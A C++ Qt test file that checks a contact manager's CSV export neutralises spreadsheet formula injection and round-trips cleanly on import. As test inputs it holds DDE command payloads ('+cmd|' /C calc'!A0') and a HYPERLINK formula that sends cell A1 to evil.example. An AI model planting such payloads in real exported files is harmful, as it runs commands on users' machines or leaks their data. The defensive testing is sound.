// SPDX-License-Identifier: GPL-3.0-or-later
// Spreadsheet formula injection: CSV exports put a ' before a cell a spreadsheet would run as a
// formula (not before numbers and phone numbers), and CSV imports take it off, so an export
// imports back exactly.
#include "core/io/contactimporter.h"
#include "core/io/csvreader.h"
#include "core/io/csvwriter.h"
#include "core/io/formulaprotection.h"
#include "core/io/tableexporter.h"
#include "core/model/entities.h"
#include "core/model/recordstore.h"
#include "core/storage/database.h"
#include "core/storage/databaseopener.h"

#include <QBuffer>
#include <QTemporaryDir>
#include <QTest>

using namespace Kizuna;
using namespace Kizuna::Io;

namespace {

QByteArray written(const QStringList &fields, bool protection = true)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvOptions options;
    options.formulaProtection = protection;
    CsvWriter writer(buffer, options);
    writer.writeRow(fields);
    if (!writer.finish().ok())
        qFatal("cannot write CSV");
    return buffer.data();
}

QStringList read(const QByteArray &csv, bool protection = true)
{
    QBuffer buffer;
    buffer.setData(csv);
    buffer.open(QIODevice::ReadOnly);
    CsvReadOptions options;
    options.separator = CsvSeparator::Comma;
    options.formulaProtection = protection;
    CsvReader reader(buffer, options);
    CsvRecord record;
    if (!reader.next(record).value())
        qFatal("cannot read CSV");
    return record.fields;
}

} // namespace

class tst_FormulaProtection : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;

private Q_SLOTS:
    void writesProtectedCells_data()
    {
        QTest::addColumn<QString>("cell");
        QTest::addColumn<QByteArray>("expected");
        QTest::newRow("formula") << "=SUM(A1)" << QByteArray("'=SUM(A1)");
        QTest::newRow("hyperlink") << "=HYPERLINK(\"http://x.example\",\"a\")"
                                   << QByteArray("\"'=HYPERLINK(\"\"http://x.example\"\",\"\"a\"\")\"");
        QTest::newRow("DDE through +") << "+cmd|' /C calc'!A0" << QByteArray("'+cmd|' /C calc'!A0");
        QTest::newRow("at sign") << "@foo" << QByteArray("'@foo");
        QTest::newRow("arithmetic") << "-2+3" << QByteArray("'-2+3");
        QTest::newRow("minus and letters") << "-cmd" << QByteArray("'-cmd");
        QTest::newRow("tab first") << "\tx" << QByteArray("'\tx");
        QTest::newRow("CR first") << "\rx" << QByteArray("\"'\rx\"");
        QTest::newRow("phone with +") << "+81 3-1234-5678" << QByteArray("+81 3-1234-5678");
        QTest::newRow("phone with parentheses") << "+1 (555) 010/1234" << QByteArray("+1 (555) 010/1234");
        QTest::newRow("negative integer") << "-1200" << QByteArray("-1200");
        QTest::newRow("negative with comma") << "-1,200" << QByteArray("\"-1,200\"");
        QTest::newRow("negative decimal") << "-0.5" << QByteArray("-0.5");
        QTest::newRow("exponent") << "-1.5e-07" << QByteArray("-1.5e-07");
        QTest::newRow("lone minus") << "-" << QByteArray("-");
        QTest::newRow("plain text") << "山田 太郎" << QByteArray("山田 太郎");
        QTest::newRow("sign inside") << "a=b" << QByteArray("a=b");
        QTest::newRow("quote then text") << "'quoted" << QByteArray("'quoted");
        QTest::newRow("quote then formula") << "'=A1" << QByteArray("''=A1");
        QTest::newRow("quote then phone") << "'+81 3" << QByteArray("''+81 3");
        QTest::newRow("empty") << "" << QByteArray("\"\"");
        // Full-width signs as a Japanese input method types them, and leading spaces (ASCII or
        // ideographic) before a sign: spreadsheets run these as formulas too.
        QTest::newRow("full-width equals") << "＝SUM(A1)" << QByteArray("'＝SUM(A1)");
        QTest::newRow("full-width equals, ASCII rest") << "＝1+1" << QByteArray("'＝1+1");
        QTest::newRow("full-width plus command") << "＋cmd|' /C calc'!A0" << QByteArray("'＋cmd|' /C calc'!A0");
        QTest::newRow("full-width minus and letters") << "－cmd" << QByteArray("'－cmd");
        QTest::newRow("full-width at") << "＠営業部長" << QByteArray("'＠営業部長");
        QTest::newRow("full-width arithmetic") << "－２＋３" << QByteArray("'－２＋３");
        QTest::newRow("space then equals") << " =1+1" << QByteArray("' =1+1");
        QTest::newRow("spaces then at") << "   @foo" << QByteArray("'   @foo");
        QTest::newRow("space then minus and letters") << " -cmd" << QByteArray("' -cmd");
        QTest::newRow("space then plus command") << " +cmd|' /C calc'!A0" << QByteArray("' +cmd|' /C calc'!A0");
        QTest::newRow("ideographic space then equals") << "　=A1" << QByteArray("'　=A1");
        QTest::newRow("ideographic space then full-width equals") << "　＝A1" << QByteArray("'　＝A1");
        QTest::newRow("mixed spaces then full-width at") << " 　 ＠foo" << QByteArray("' 　 ＠foo");
        QTest::newRow("space then tab") << " \tx" << QByteArray("' \tx");
        QTest::newRow("full-width phone") << "＋８１ ３－１２３４－５６７８" << QByteArray("＋８１ ３－１２３４－５６７８");
        QTest::newRow("full-width phone, ideographic space")
            << "＋８１　３（１２３４）５６７８" << QByteArray("＋８１　３（１２３４）５６７８");
        QTest::newRow("full-width negative") << "－１，２００" << QByteArray("－１，２００");
        QTest::newRow("full-width exponent") << "－１．５ｅ－０７" << QByteArray("－１．５ｅ－０７");
        QTest::newRow("space then phone") << " +81 3-1234-5678" << QByteArray(" +81 3-1234-5678");
        QTest::newRow("ideographic space then negative") << "　-1200" << QByteArray("　-1200");
        QTest::newRow("spaces only") << "  　" << QByteArray("  　");
        QTest::newRow("space then text") << " 山田" << QByteArray(" 山田");
        QTest::newRow("full-width sign inside") << "山田＝太郎" << QByteArray("山田＝太郎");
        QTest::newRow("other full-width first") << "＃1" << QByteArray("＃1");
        QTest::newRow("quote then full-width equals") << "'＝A1" << QByteArray("''＝A1");
        QTest::newRow("quote then space then equals") << "' =A1" << QByteArray("'' =A1");
        QTest::newRow("quote then full-width phone") << "'＋８１" << QByteArray("''＋８１");
        QTest::newRow("quote, space and text") << "' abc" << QByteArray("' abc");
    }
    void writesProtectedCells()
    {
        QFETCH(QString, cell);
        QFETCH(QByteArray, expected);
        QCOMPARE(written({cell, "x"}), expected + ",x\r\n");
        // Off: the cell as it is.
        QCOMPARE(written({cell, "x"}, false), CsvWriter::encodeField(cell) + ",x\r\n");
        // Read back: the cell as it was, whether protected or not.
        QCOMPARE(read(written({cell, "x"})), QStringList({cell, "x"}));
        QCOMPARE(unprotectFormula(protectFormula(cell)), cell);
    }

    void nullStaysNull()
    {
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        CsvWriter writer(buffer);
        writer.addNull();
        writer.addField(u"=1");
        QVERIFY(writer.finish().ok());
        QCOMPARE(buffer.data(), QByteArray(",'=1\r\n"));
    }

    void readsProtectedCells_data()
    {
        QTest::addColumn<QByteArray>("csv");
        QTest::addColumn<QString>("cell");
        QTest::newRow("formula") << QByteArray("'=SUM(A1)") << "=SUM(A1)";
        QTest::newRow("quoted field") << QByteArray("\"'=a,b\"") << "=a,b";
        QTest::newRow("plus") << QByteArray("'+81") << "+81";
        QTest::newRow("minus") << QByteArray("'-x") << "-x";
        QTest::newRow("at") << QByteArray("'@foo") << "@foo";
        QTest::newRow("tab") << QByteArray("'\tx") << "\tx";
        QTest::newRow("CR") << QByteArray("\"'\rx\"") << "\rx";
        QTest::newRow("two quotes") << QByteArray("''=A1") << "'=A1";
        QTest::newRow("quote and text stays") << QByteArray("'quoted") << "'quoted";
        QTest::newRow("quote alone stays") << QByteArray("'") << "'";
        QTest::newRow("quote inside stays") << QByteArray("a'=b") << "a'=b";
        QTest::newRow("full-width equals") << QByteArray("'＝SUM(A1)") << "＝SUM(A1)";
        QTest::newRow("full-width plus") << QByteArray("'＋cmd") << "＋cmd";
        QTest::newRow("full-width minus") << QByteArray("'－x") << "－x";
        QTest::newRow("full-width at") << QByteArray("'＠foo") << "＠foo";
        QTest::newRow("full-width phone") << QByteArray("'＋８１") << "＋８１";
        QTest::newRow("space then equals") << QByteArray("' =A1") << " =A1";
        QTest::newRow("ideographic space then full-width equals") << QByteArray("'　＝A1") << "　＝A1";
        QTest::newRow("two quotes, ideographic space") << QByteArray("''　＝A1") << "'　＝A1";
        QTest::newRow("quote and spaces stay") << QByteArray("' 　") << "' 　";
        QTest::newRow("quote, space and text stay") << QByteArray("' abc") << "' abc";
        QTest::newRow("quote and other full-width stays") << QByteArray("'＃1") << "'＃1";
    }
    void readsProtectedCells()
    {
        QFETCH(QByteArray, csv);
        QFETCH(QString, cell);
        QCOMPARE(read(csv + ",y\r\n"), QStringList({cell, "y"}));
        // Off: the text as in the file.
        QCOMPARE(read(csv + ",y\r\n", false).value(1), "y");
        if (!csv.startsWith('"'))
            QCOMPARE(read(csv + ",y\r\n", false).value(0), QString::fromUtf8(csv));
    }

    // A contact whose note and name are formulas is exported from one database and imported into
    // another: the note comes back exactly, and the file never holds a bare formula.
    void exportImportRoundTrip()
    {
        const QString note = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")");
        const QString title = QStringLiteral("@営業部長");
        QString csv;
        {
            auto db = Storage::DatabaseOpener::open(m_dir.filePath("source.kizuna"));
            QVERIFY(db.ok());
            Model::RecordStore store(**db, {QStringLiteral("tester"), QStringLiteral("node-1")});
            auto id = store.insert(Model::entity(u"contact"),
                                   {{QStringLiteral("family_name"), QStringLiteral("山田")},
                                    {QStringLiteral("given_name"), QStringLiteral("-太郎+")},
                                    {QStringLiteral("email"), QStringLiteral("taro@example.jp")},
                                    {QStringLiteral("phone"), QStringLiteral("+81 3-1234-5678")},
                                    {QStringLiteral("title"), title},
                                    {QStringLiteral("notes"), note}});
            QVERIFY2(id.ok(), id.ok() ? "" : qPrintable(id.error().message));
            QBuffer buffer;
            buffer.open(QIODevice::WriteOnly);
            auto rows = TableExporter(**db).exportTable(QStringLiteral("contacts"), buffer);
            QVERIFY(rows.ok());
            QCOMPARE(*rows, 1);
            csv = QString::fromUtf8(buffer.data());
        }
        QVERIFY(csv.contains(QStringLiteral("\"'=HYPERLINK(")));
        QVERIFY(csv.contains(QStringLiteral(",'@営業部長,")));
        QVERIFY(csv.contains(QStringLiteral(",'-太郎+,")));
        QVERIFY(csv.contains(QStringLiteral(",+81 3-1234-5678,")));
        QVERIFY(!csv.contains(QStringLiteral(",=")) && !csv.contains(QStringLiteral(",\"=")));

        auto db = Storage::DatabaseOpener::open(m_dir.filePath("copy.kizuna"));
        QVERIFY(db.ok());
        QBuffer input;
        input.setData(csv.toUtf8());
        input.open(QIODevice::ReadOnly);
        ContactImporter importer(**db, {QStringLiteral("tester"), QStringLiteral("node-1")});
        auto summary = importer.importCsv(input, {});
        QVERIFY2(summary.ok(), summary.ok() ? "" : qPrintable(summary.error().message));
        QCOMPARE(summary->imported, 1);
        auto select = (*db)->prepare(QStringLiteral("SELECT notes, title, given_name, phone FROM contacts"));
        QVERIFY(select.ok() && select->step().value());
        QCOMPARE(select->columnText(0), note);
        QCOMPARE(select->columnText(1), title);
        QCOMPARE(select->columnText(2), QStringLiteral("-太郎+"));
        QCOMPARE(select->columnText(3), QStringLiteral("+81 3-1234-5678"));
    }
};

QTEST_GUILESS_MAIN(tst_FormulaProtection)
#include "tst_formulaprotection.moc"
